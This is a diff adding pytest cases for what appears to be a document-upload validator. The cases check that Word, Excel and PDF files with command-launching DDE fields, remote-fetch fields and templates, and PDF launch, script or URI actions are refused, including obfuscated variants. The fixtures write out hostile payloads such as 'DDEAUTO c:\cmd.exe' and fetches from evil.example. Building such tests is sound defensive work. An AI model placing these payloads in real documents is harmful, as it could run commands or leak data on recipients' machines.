@@ -3,6 +3,7 @@
 import io
 import re
 import tempfile
+import zipfile
 
 import pytest
 from PIL import Image
@@ -44,8 +45,6 @@ def _only_printing_locked(writer: PdfWriter) -> None:
 
 
 def _macro_types(content: bytes) -> bytes:
-    import zipfile
-
     with zipfile.ZipFile(io.BytesIO(content)) as package:
         types = package.read("[Content_Types].xml")
     changed = types.replace(b"document.main+xml", b"document.macroEnabled.main+xml")
@@ -186,6 +185,178 @@ def test_what_means_harm_or_is_broken_is_told_what_to_do(
         looked(content, name)
     assert re.search(r"请|只收", str(refusal.value)), "a refusal says what to do"
     assert "非法" not in str(refusal.value)
+
+
+_BODY = (
+    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
+    'xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>'
+    "{}</w:p></w:body></w:document>"
+)
+
+
+def _fields(*runs: str) -> bytes:
+    """A document with a field as Word stores it, its text split over these runs."""
+    text = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
+    edge = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
+    return _body(edge.format("begin") + text + edge.format("end"))
+
+
+def _body(content: str) -> bytes:
+    return papers.document(**{"word/document.xml": _BODY.format(content).encode()})
+
+
+@pytest.mark.parametrize(
+    ("content", "said"),
+    [
+        (_fields(" DDEAUTO c:\\cmd.exe &quot;/k calc&quot; "), "嵌着程序"),
+        (_fields(" D", "DEA", "UTO c:\\cmd.exe"), "嵌着程序"),
+        (_fields("PAGE", "dde excel a"), "嵌着程序"),
+        (_fields(" QUOTE 68 68 69 65 85 84 79 "), "嵌着程序"),
+        (_body('<x:fldSimple x:instr="DDEAUTO c:\\cmd.exe"/>'), "嵌着程序"),
+        (_fields(' INCLUDEPICTURE "ht', 'tp://evil.example/x.png" \\d'), "自己去网上取"),
+        (_fields(' INCLUDETEXT "\\\\10.0.0.9\\s\\a.docx"'), "自己去网上取"),
+        (
+            _body('<x:fldSimple x:instr=" LINK Excel.Sheet https://evil.example/a"/>'),
+            "自己去网上取",
+        ),
+    ],
+)
+def test_a_field_that_starts_or_fetches_is_refused_however_it_is_stored(
+    content: bytes, said: str
+) -> None:
+    with pytest.raises(Invalid, match=said):
+        looked(content, "域.docx")
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        _fields(' HYPERLINK "https://gk.example.gov.cn/a" '),
+        _fields(" PAGE ", " NUMPAGES ", ' TOC \\o "1-3" \\h '),
+        _fields(' INCLUDEPICTURE "C:\\照片\\a.png" '),
+        _body("<w:r><w:t>DDEAUTO 是什么</w:t></w:r>"),
+    ],
+)
+def test_fields_of_everyday_documents_are_kept(content: bytes) -> None:
+    assert looked(content, "域.docx").kind == "docx"
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "said"),
+    [
+        (
+            "连接.xlsx",
+            papers.workbook(**{"xl/connections.xml": b'<a><webPr url="h"/></a>'}),
+            "嵌着",
+        ),
+        (
+            "旧宏.xlsx",
+            papers.workbook(**{"xl/macrosheets/a.xml": b"<a:macrosheet/>"}),
+            "嵌着|打不开",
+        ),
+        (
+            "公式.xlsx",
+            papers.workbook(**{"xl/worksheets/b.xml": b"<a><f>_xlfn.WEBSERVICE(A1)</f></a>"}),
+            "自己去网上取",
+        ),
+        ("网页.docx", papers.document(**{"word/a.html": b"<html/>"}), "嵌着"),
+        ("部件.docx", papers.document(**{"word/evil.bin": b"<a/>"}), "嵌着"),
+        ("压缩包.docx", papers.document(**{"word/media/a.png": b"PK\x03\x04"}), "嵌着"),
+        ("夹带.docx", papers.document(**{"word/more.rels": _relation("package", "a")}), "嵌着"),
+        ("正文.docx", papers.document(**{"_rels/.rels": _relation("officeDocument", "b")}), "嵌着"),
+        (
+            "改写.docx",
+            papers.document(
+                **{"word/more.rels": _relation("attachedTemplate", "%5C%5Cevil%5Cx.dotm")}
+            ),
+            "自己去网上取",
+        ),
+    ],
+)
+def test_a_part_that_no_everyday_file_has_is_refused(name: str, content: bytes, said: str) -> None:
+    with pytest.raises(Invalid, match=said):
+        looked(content, name)
+
+
+def test_a_part_declared_as_text_is_read_whatever_its_ending() -> None:
+    types = zipfile.ZipFile(io.BytesIO(papers.document())).read("[Content_Types].xml")
+    named = b'<Override PartName="/word/media/Head.png" ContentType="application/a.header+xml"/>'
+    content = papers.document(
+        **{
+            "[Content_Types].xml": types.replace(b"</Types>", named + b"</Types>"),
+            "word/media/head.png": _BODY.format('<w:fldSimple w:instr="DDE a"/>').encode(),
+        }
+    )
+    with pytest.raises(Invalid, match="嵌着"):
+        looked(content, "页眉.docx")
+
+
+def test_pictures_fonts_and_the_printers_settings_are_kept() -> None:
+    parts = {
+        "xl/printerSettings/printerSettings1.bin": b"\0" * 40,
+        "xl/media/image1.emf": b"\1\0\0\0",
+        "xl/media/image2.png": papers.picture("PNG"),
+        "xl/drawings/vmlDrawing1.vml": b"<xml/>",
+    }
+    assert looked(papers.workbook(**parts), "表.xlsx").kind == "xlsx"
+    assert looked(papers.document(**{"word/fonts/font1.odttf": b"x"}), "信.docx").kind == "docx"
+
+
+_GO = "<< /S /GoTo /D [3 0 R /Fit] >>"
+_SCRIPT = "<< /S /J#61vaScript /J#53 (app.alert(1)) >>"
+
+
+@pytest.mark.parametrize(
+    ("content", "said"),
+    [
+        (papers.plain_pdf("/OpenAction << /S 4 0 R /F (cmd.exe) >>", "/Launch"), "启动别的程序"),
+        (papers.plain_pdf("/OpenAction << /S 4 0 R /F (cmd.exe) >>", "/L#61unch"), "启动别的程序"),
+        (papers.plain_pdf(f"/OpenAction {_GO} /OpenAction {_SCRIPT}"), "带有脚本"),
+        (papers.plain_pdf(f"/OpenAction {_SCRIPT} /Open#41ction {_GO}"), "带有脚本"),
+        (papers.plain_pdf("", _SCRIPT), "带有脚本"),
+        (papers.plain_pdf("", "<< /S /SubmitForm /F (http://evil.example) >>"), "带有脚本"),
+        (papers.plain_pdf("", "<< /S /Import#44ata /F (a.fdf) >>"), "带有脚本"),
+        (papers.plain_pdf("/OpenAction << /S /GoToE /D [0 /Fit] >>"), "夹带着别的文件"),
+        (papers.plain_pdf("", "<< /Type /Annot /Subtype 5 0 R >>", "/Mo#76ie"), "夹带着别的文件"),
+        (papers.plain_pdf("/Collection << >>"), "夹带着别的文件"),
+        (papers.plain_pdf("", "<< /Type /Annot /Subtype /3D >>"), "夹带着别的文件"),
+        (
+            papers.plain_pdf("/OpenAction << /S /URI /URI (http://evil.example) >>"),
+            "自己去别的地方",
+        ),
+        (
+            papers.plain_pdf("/OpenAction 4 0 R", "<< /S 5 0 R /URI (http://e) >>", "/U#52I"),
+            "自己去",
+        ),
+        (papers.plain_pdf("/AA << /WC << /S /GoToR /F (x.pdf) >> >>"), "自己去别的地方"),
+        (
+            papers.plain_pdf(f"/OpenAction {_GO[:-2]} /Next [4 0 R] >>", "<< /S /URI /URI (h) >>"),
+            "自己去别的地方",
+        ),
+    ],
+)
+def test_a_pdf_that_acts_is_refused_however_its_names_are_written(
+    content: bytes, said: str
+) -> None:
+    with pytest.raises(Invalid, match=said):
+        looked(content, "动作.pdf")
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        papers.plain_pdf(f"/OpenAction {_GO}"),
+        papers.plain_pdf("/OpenAction [3 0 R /Fit]"),
+        papers.plain_pdf("", "<< /Type /ExtGState /BM /Screen >>"),
+        papers.plain_pdf(
+            "/OpenAction [3 0 R /Fit]",
+            "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
+            "/A << /S /URI /URI (https://gk.example.gov.cn) >> >>",
+        ),
+    ],
+)
+def test_a_pdf_with_links_to_click_and_a_first_page_is_kept(content: bytes) -> None:
+    assert looked(content, "网址.pdf").kind == "pdf"
 
 
 def test_a_file_that_takes_too_long_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
